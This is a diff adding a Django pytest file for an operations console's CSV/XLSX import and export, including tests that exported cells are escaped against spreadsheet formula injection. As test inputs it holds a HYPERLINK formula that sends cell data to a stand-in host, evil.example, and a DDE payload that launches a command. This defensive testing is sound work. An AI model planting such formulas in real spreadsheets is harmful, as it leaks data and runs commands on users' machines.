@@ -1,0 +1,356 @@
+"""Console import/export: resources (dry-run, idempotent re-import, history, escaping) and the streaming export."""
+
+import csv
+import datetime as dt
+import io
+
+import openpyxl
+import pytest
+import tablib
+from django.contrib import admin
+from django.contrib.admin import AdminSite
+from django.db import connection
+from django.http import StreamingHttpResponse
+from django.test import RequestFactory
+from django.test.utils import CaptureQueriesContext
+from django.urls import NoReverseMatch, path, reverse
+from import_export.formats.base_formats import CSV, XLSX
+
+from core.bookings.models import Booking
+from core.bookings.services import booking_create, booking_transition
+from core.catalog.models import MiniMovePackage, SurchargeRule
+from core.common.audit import acting_as
+from core.customers.models import CustomerProfile
+from core.customers.services import CustomerData
+from ops_console.exports import BOOKING_STREAM_HEADERS, StreamingExportMixin
+from ops_console.resources import (
+    BookingResource,
+    CustomerResource,
+    MiniMovePackageResource,
+    PaymentResource,
+    SurchargeRuleResource,
+    escape_formula,
+)
+from tests.factories import CustomerFactory, UserFactory
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+# --- A private admin site carrying the streaming mixin, until BookingAdmin includes it itself --------------
+
+_private_site = AdminSite(name="stream_test_admin")
+
+
+def _stream_admin_class():
+    registered = type(admin.site._registry[Booking])
+    if issubclass(registered, StreamingExportMixin):
+        return registered
+    return type("StreamingBookingAdmin", (StreamingExportMixin, registered), {})
+
+
+_private_site.register(Booking, _stream_admin_class())
+urlpatterns = [path("stream-admin/", _private_site.urls)]
+
+
+@pytest.fixture
+def stream_url(settings):
+    try:
+        return reverse("admin:core_booking_export_stream")
+    except NoReverseMatch:
+        settings.ROOT_URLCONF = __name__
+        return reverse("stream_test_admin:core_booking_export_stream")
+
+
+@pytest.fixture
+def staff_client(client, db):
+    user = UserFactory(is_superuser=True)
+    client.force_login(user)
+    client.user = user
+    return client
+
+
+@pytest.fixture
+def make_booking(make_request, future_weekday):
+    weeks = iter(range(0, 100))
+
+    def _make(*, email=None, name="Alex Morgan", notes="", status=None):
+        n = next(weeks)
+        customer = CustomerData(name=name, email=email or f"stream{n}@example.com", phone="+12125550123")
+        booking, _ = booking_create(request=make_request(pickup_date=future_weekday + dt.timedelta(days=7 * (n % 14)),
+                                                         customer=customer, notes=notes))
+        if status:
+            booking = booking_transition(booking=booking, to_status=status)
+        return booking
+
+    return _make
+
+
+def _csv_dataset(text: str) -> tablib.Dataset:
+    return CSV(encoding="utf-8").create_dataset(text)
+
+
+def _read_stream(response) -> list[list[str]]:
+    body = b"".join(response.streaming_content).decode()
+    return list(csv.reader(io.StringIO(body)))
+
+
+# --- Formula escaping --------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("raw", "expected"), [
+    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\uff1d1+1", "'\uff1d1+1"),
+    ("+12125550123", "+12125550123"), ("-5", "-5"), ("12.50", "12.50"), ("Alex", "Alex"), ("", ""),
+])
+def test_escape_formula(raw, expected):
+    assert escape_formula(raw) == expected
+
+
+# --- Customers -------------------------------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_customer_dry_run_reports_per_row_errors_and_writes_nothing():
+    # given a file with one good row, a bad email, a bad phone and a blank name
+    text = ("email,name,phone,staff_notes\n"
+            "new@example.com,New Person,(212) 555-0188,VIP\n"
+            "not-an-email,Bad Email,,\n"
+            "phone@example.com,Bad Phone,12345,\n"
+            "blank@example.com,,,\n")
+    before = CustomerProfile.objects.count(), CustomerProfile.history.count()
+    # when it is previewed
+    result = CustomerResource().import_data(_csv_dataset(text), dry_run=True)
+    # then each bad row carries its own field error, the good row is a "new" in the preview, nothing is written
+    assert not result.has_errors()
+    assert result.has_validation_errors()
+    invalid = {row.number: row.field_specific_errors for row in result.invalid_rows}
+    assert set(invalid) == {2, 3, 4}
+    assert "email" in invalid[2]
+    assert "phone" in invalid[3]
+    assert "name" in invalid[4]
+    assert result.totals["new"] == 1
+    assert (CustomerProfile.objects.count(), CustomerProfile.history.count()) == before
+
+
+@pytest.mark.django_db
+def test_customer_import_normalises_phone_and_matches_email_case_insensitively():
+    staff = UserFactory()
+    existing = CustomerFactory(email="alex@example.com", name="Alex", phone="")
+    text = ("email,name,phone,staff_notes\n"
+            "ALEX@Example.com,Alex Morgan,212-555-0123,\n"
+            "sam@example.com,Sam Lee,+1 (631) 555 0199,Gate code 1234\n")
+    with acting_as(staff):
+        result = CustomerResource().import_data(_csv_dataset(text), dry_run=False)
+    assert not result.has_errors() and not result.has_validation_errors()
+    assert result.totals["update"] == 1 and result.totals["new"] == 1
+    existing.refresh_from_db()
+    assert (existing.email, existing.name, existing.phone) == ("alex@example.com", "Alex Morgan", "+12125550123")
+    assert CustomerProfile.objects.get(email="sam@example.com").phone == "+16315550199"
+
+
+@pytest.mark.django_db
+def test_customer_import_writes_history_with_the_acting_user():
+    staff = UserFactory()
+    existing = CustomerFactory(email="alex@example.com", name="Alex")
+    text = "email,name\nalex@example.com,Alex Renamed\nnew@example.com,New Person\n"
+    with acting_as(staff, ip_address="203.0.113.9", user_agent="ops-import-test"):
+        CustomerResource().import_data(_csv_dataset(text), dry_run=False)
+    updated = CustomerProfile.history.filter(id=existing.pk).latest("history_date")
+    created = CustomerProfile.history.get(email="new@example.com")
+    assert (updated.history_type, updated.name, updated.history_user) == ("~", "Alex Renamed", staff)
+    assert (created.history_type, created.history_user, created.ip_address) == ("+", staff, "203.0.113.9")
+
+
+@pytest.mark.django_db
+def test_reimporting_an_exported_customer_file_changes_nothing():
+    # given customers, one with a formula in its name (escaped on export)
+    CustomerFactory(email="a@example.com", name=EVIL, staff_notes="-1+1")
+    CustomerFactory(email="b@example.com", name="Bea", phone="")
+    exported = CSV().export_data(CustomerResource().export())
+    before = CustomerProfile.objects.count(), CustomerProfile.history.count()
+    # when the exported file is imported twice
+    for _ in range(2):
+        result = CustomerResource().import_data(_csv_dataset(exported), dry_run=False)
+        # then every row is an unchanged skip: nothing created, nothing saved, no history row
+        assert result.totals["skip"] == 2, result.totals
+        assert result.totals["new"] == result.totals["update"] == 0
+    assert (CustomerProfile.objects.count(), CustomerProfile.history.count()) == before
+    assert CustomerProfile.objects.get(email="a@example.com").name == EVIL
+
+
+@pytest.mark.django_db
+def test_customer_export_escapes_formulae_in_csv_and_xlsx():
+    CustomerFactory(email="a@example.com", name=EVIL, phone="+12125550123", staff_notes="@SUM(1)")
+    rows = list(csv.reader(io.StringIO(CSV().export_data(CustomerResource().export()))))
+    header, row = rows[0], rows[1]
+    record = dict(zip(header, row, strict=True))
+    assert record["name"] == "'" + EVIL
+    assert record["staff_notes"] == "'@SUM(1)"
+    assert record["phone"] == "+12125550123"  # a plain number stays readable
+    # XLSX: opens with openpyxl, and the cell is text, not a formula
+    data = XLSX().export_data(CustomerResource().export(force_native_type=True))
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    values = {sheet.cell(1, c).value: sheet.cell(2, c) for c in range(1, sheet.max_column + 1)}
+    assert values["name"].value == "'" + EVIL
+    assert values["name"].data_type == "s"
+    assert values["email"].value == "a@example.com"
+
+
+# --- Catalog ---------------------------------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_catalog_dry_run_bad_prices_are_row_errors(catalog):
+    text = ("code,name,base_price,max_items,is_active\n"
+            "petite,Petite,-1.00,15,yes\n"
+            "grande,Grande,abc,40,yes\n"
+            "weekend,Weekend,\"$2,450.00\",,maybe\n"
+            "tiny,Tiny,99.999,5,no\n"
+            "family,Family Move,2450.00,60,no\n")
+    before = list(MiniMovePackage.objects.values_list("code", "base_price", "is_active"))
+    history_before = MiniMovePackage.history.count()
+    result = MiniMovePackageResource().import_data(_csv_dataset(text), dry_run=True)
+    assert not result.has_errors()
+    invalid = {row.number: row.field_specific_errors for row in result.invalid_rows}
+    assert "base_price" in invalid[1]  # negative
+    assert "base_price" in invalid[2]  # not a number
+    assert "is_active" in invalid[3]  # "maybe" is not silently False
+    assert "base_price" in invalid[4]  # three decimal places
+    assert 5 not in invalid
+    assert list(MiniMovePackage.objects.values_list("code", "base_price", "is_active")) == before
+    assert MiniMovePackage.history.count() == history_before
+
+
+@pytest.mark.django_db
+def test_catalog_reimport_is_idempotent_and_writes_history_once(catalog):
+    staff = UserFactory()
+    exported = CSV().export_data(MiniMovePackageResource().export())
+    history_before = MiniMovePackage.history.count()
+    with acting_as(staff):
+        result = MiniMovePackageResource().import_data(_csv_dataset(exported), dry_run=False)
+    assert result.totals["skip"] == MiniMovePackage.objects.count()
+    assert MiniMovePackage.history.count() == history_before
+    # a real change: one row updated, one history row naming the user
+    changed = exported.replace("995.00", "1095.00")
+    with acting_as(staff):
+        result = MiniMovePackageResource().import_data(_csv_dataset(changed), dry_run=False)
+    assert result.totals["update"] == 1 and result.totals["new"] == 0
+    assert MiniMovePackage.objects.get(code="petite").base_price == 1095
+    row = MiniMovePackage.history.filter(code="petite").latest("history_date")
+    assert (row.history_type, row.history_user) == ("~", staff)
+
+
+@pytest.mark.django_db
+def test_surcharge_rule_import_validates_constraints_and_lists(catalog):
+    text = ("code,name,rule_type,amount,is_percentage,start_date,end_date,weekdays,applies_to\n"
+            "weekend-x,Weekend,day_of_week,50.00,no,,,\"6,7\",\n"
+            "bad-days,Bad days,day_of_week,50.00,no,,,\"[0, 8]\",\n"
+            "bad-range,Bad range,date_range,50.00,no,2027-07-10,2027-07-01,,\n"
+            "too-much,Too much,holiday,150,yes,,,,\n"
+            "bad-type,Bad type,holiday,10,no,,,,\"[\"\"boat\"\"]\"\n")
+    result = SurchargeRuleResource().import_data(_csv_dataset(text), dry_run=False)
+    invalid = {row.number: row.error_dict for row in result.invalid_rows}
+    assert set(invalid) == {2, 3, 4, 5}
+    assert "weekdays" in invalid[2]
+    assert "applies_to" in invalid[5]
+    assert SurchargeRule.objects.get(code="weekend-x").weekdays == [6, 7]
+    exported = CSV().export_data(SurchargeRuleResource().export(SurchargeRule.objects.filter(code="weekend-x")))
+    again = SurchargeRuleResource().import_data(_csv_dataset(exported), dry_run=False)
+    assert again.totals["skip"] == 1
+
+
+# --- Bookings and payments: export-only -------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("resource_class", [BookingResource, PaymentResource])
+def test_bookings_and_payments_refuse_imports(resource_class, make_booking):
+    make_booking()
+    exported = CSV().export_data(BookingResource().export())
+    bookings_before = Booking.objects.count(), Booking.history.count()
+    result = resource_class().import_data(_csv_dataset(exported), dry_run=False)
+    assert result.has_errors()
+    assert "export-only" in str(result.base_errors[0].error)
+    assert (Booking.objects.count(), Booking.history.count()) == bookings_before
+
+
+@pytest.mark.django_db
+def test_booking_export_columns_are_readable(make_booking):
+    booking = make_booking(name="Alex Morgan", email="alex.m@example.com", notes="+1 call first")
+    rows = list(csv.reader(io.StringIO(CSV().export_data(BookingResource().export()))))
+    record = dict(zip(rows[0], rows[1], strict=True))
+    assert record["booking_number"] == booking.booking_number
+    assert record["customer_name"] == "Alex Morgan"
+    assert record["customer_email"] == "alex.m@example.com"
+    assert record["pickup_address"] == "245 East 72nd Street, New York, NY 10021"
+    assert record["pickup_date"] == booking.pickup_date.isoformat()
+    assert record["total_price"] == f"{booking.total_price:.2f}"
+    assert record["notes"] == "'+1 call first"
+    assert dt.datetime.fromisoformat(record["created_at"]).tzinfo is not None
+
+
+@pytest.mark.django_db
+def test_import_export_admin_export_respects_changelist_filters(make_booking):
+    paid = make_booking(status="paid")
+    make_booking()
+    model_admin = admin.site._registry[Booking]
+    request = RequestFactory().get("/admin/core/booking/export/", {"status__exact": "paid"})
+    request.user = UserFactory(is_superuser=True)
+    queryset = model_admin.get_export_queryset(request)
+    rows = list(csv.reader(io.StringIO(CSV().export_data(BookingResource().export(queryset)))))
+    assert [r[0] for r in rows[1:]] == [paid.booking_number]
+
+
+# --- Streaming export ------------------------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_streaming_export_streams_escapes_and_matches_the_resource(staff_client, stream_url, make_booking):
+    booking = make_booking(name=EVIL, notes="@SUM(A1)")
+    response = staff_client.get(stream_url)
+    assert response.status_code == 200
+    assert isinstance(response, StreamingHttpResponse)
+    assert response["Content-Type"].startswith("text/csv")
+    rows = _read_stream(response)
+    assert rows[0] == BOOKING_STREAM_HEADERS
+    record = dict(zip(rows[0], rows[1], strict=True))
+    assert record["booking_number"] == booking.booking_number
+    assert record["customer_name"] == "'" + EVIL
+    assert record["notes"] == "'@SUM(A1)"
+    # same text as the import-export (in-memory) export of the same booking
+    resource_rows = list(csv.reader(io.StringIO(CSV().export_data(BookingResource().export()))))
+    assert rows == resource_rows
+
+
+@pytest.mark.django_db
+def test_streaming_export_respects_filters_and_search(staff_client, stream_url, make_booking):
+    paid = make_booking(status="paid", email="paid@example.com")
+    pending = make_booking(email="pending@example.com")
+    by_status = _read_stream(staff_client.get(stream_url, {"status__exact": "paid"}))
+    assert [r[0] for r in by_status[1:]] == [paid.booking_number]
+    by_search = _read_stream(staff_client.get(stream_url, {"q": "pending@example.com"}))
+    assert [r[0] for r in by_search[1:]] == [pending.booking_number]
+    assert staff_client.get(stream_url, {"no_such_field": "1"}).status_code == 400
+
+
+@pytest.mark.django_db
+def test_streaming_export_query_count_is_constant(staff_client, stream_url, make_booking,
+                                                   django_assert_max_num_queries):
+    make_booking()
+    with CaptureQueriesContext(connection) as few:
+        _read_stream(staff_client.get(stream_url))
+    for _ in range(6):
+        make_booking()
+    with django_assert_max_num_queries(len(few.captured_queries)):
+        rows = _read_stream(staff_client.get(stream_url))
+    assert len(rows) == 1 + 7
+    assert not any("COUNT(" in q["sql"].upper() for q in few.captured_queries)
+
+
+@pytest.mark.django_db
+def test_streaming_export_requires_view_permission(client, stream_url, make_booking):
+    make_booking()
+    staff_without_perm = UserFactory(is_superuser=False)
+    client.force_login(staff_without_perm)
+    assert client.get(stream_url).status_code == 403
+    client.logout()
+    assert client.get(stream_url).status_code == 302  # to the login page
